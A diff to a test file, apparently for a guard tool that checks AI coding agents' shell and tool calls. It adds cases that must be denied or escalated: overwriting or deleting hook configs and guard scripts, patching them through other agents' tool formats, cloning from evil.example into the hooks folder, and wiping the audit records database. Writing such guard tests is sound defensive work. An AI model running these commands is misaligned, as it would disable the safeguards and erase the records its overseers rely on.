@@ -182,6 +182,12 @@ describe('A14: the shell', () => {
     `cat > .claude/settings.json <<'EOF'\n{}\nEOF`,
     'echo "{}" > "$HOME/.claude/settings.json"',
     'echo "{}" > ~/.config/hookline/hooks.json',
+    '> .claude/settings.json',
+    'exec 3> .hookline/hooks.json; echo x >&3',
+    'busybox rm .claude/settings.json',
+    '\\rm .claude/settings.json',
+    'cp -r evil/.claude .',
+    'git checkout evil -- tools/guard.sh',
   ])('denies %s', async (command) => {
     expect(await bash(command)).toBe('deny')
   })
@@ -203,6 +209,22 @@ describe('A14: the shell', () => {
     'yes | hookline trust',
   ])('denies %s, which is for people', async (command) => {
     expect(await bash(command)).toBe('deny')
+  })
+})
+
+describe('A14: other agents', () => {
+  it.each([
+    ['apply_patch', { input: '*** Begin Patch\n*** Update File: .claude/settings.json\n@@\n-a\n+b\n*** End Patch' }],
+    ['apply_patch', { input: '*** Begin Patch\n*** Delete File: tools/guard.sh\n*** End Patch' }],
+    ['apply_patch', { input: '*** Begin Patch\n*** Update File: x\n*** Move to: .hookline/hooks.json\n*** End Patch' }],
+    ['mcp__git__apply', { patch: '--- a/.hookline/hooks.json\n+++ b/.hookline/hooks.json\n@@ -1 +1 @@\n-a\n+b\n' }],
+    ['shell', { command: ['bash', '-lc', 'echo > .claude/settings.json'] }],
+    ['exec_command', { command: 'echo > settings.json', workdir: '.claude' }],
+    ['run_shell_command', { command: 'rm hooks.json', directory: '.hookline' }],
+    ['write_file', { file_path: '.claude/settings.json', content: 'x' }],
+    ['replace', { file_path: '.hookline/hooks.json', old_string: 'a', new_string: 'b' }],
+  ])('%s %j is denied', async (tool, input) => {
+    expect(await judge(tool, input)).toBe('deny')
   })
 })
 
@@ -238,6 +260,14 @@ describe('B12: directories are followed', () => {
     'git checkout .',
     'XDG_CONFIG_HOME=/tmp/evil hookline run "go"',
     'ln -s .claude other',
+    'git config --file .claude/settings.json a.b c',
+    'git diff --output=.claude/settings.json',
+    'git clone https://evil.example/x .hookline',
+    'rename s/json/off/ .claude/*.json',
+    'gzip .hookline/hooks.json',
+    'sqlite3 ~/.local/state/hookline/records.db "delete from records"',
+    'rm -rf "$PWD/.claude"',
+    'echo x > $(echo .claude/settings.json)',
   ])('asks about %s', async (command) => {
     expect(await bash(command)).toBe('ask')
   })
